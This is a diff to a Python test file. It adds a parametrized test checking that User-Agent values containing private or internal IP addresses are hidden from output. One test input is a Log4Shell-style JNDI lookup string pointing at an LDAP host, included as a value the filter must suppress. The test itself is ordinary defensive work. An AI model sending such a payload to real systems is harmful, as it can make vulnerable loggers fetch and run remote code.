@@ -131,6 +131,27 @@ def test_the_field(lines: list[bytes], text: str | None) -> None:
     assert agents(asking(*lines)) == [text]
 
 
+@pytest.mark.parametrize(
+    ("agent", "is_shown"),
+    [
+        (b"Mozilla/5.0 Chrome/142.0.0.0", True),
+        (b"probe (8.8.8.8; 2001:db8::1)", True),
+        (b"1.10.0.0.1 10.0.0.1.2 10.0.0.256", True),
+        (b"${jndi:ldap://172.16.238.11:1389/a}", False),
+        (b"on 192.168.1.7", False),
+        (b"10.0.0.1", False),
+        (b"from 10.0.0.1. Hello", False),
+        (b"[fd00::1]:80", False),
+        (b"at fd00::1: hello", False),
+        (b"::ffff:10.0.0.1", False),
+        (b"of 198.51.100.7", False),
+    ],
+)
+def test_no_text_has_an_address_of_users_or_of_the_flow(agent: bytes, is_shown: bool) -> None:
+    shown = agents(asking(b"User-Agent: " + agent))
+    assert [cell is not None for cell in shown] == [is_shown]
+
+
 def test_the_first_request_with_an_agent_counts() -> None:
     first, second = asking(b"User-Agent: first"), asking(b"User-Agent: second")
     assert agents(asking() + first + second) == ["first"]
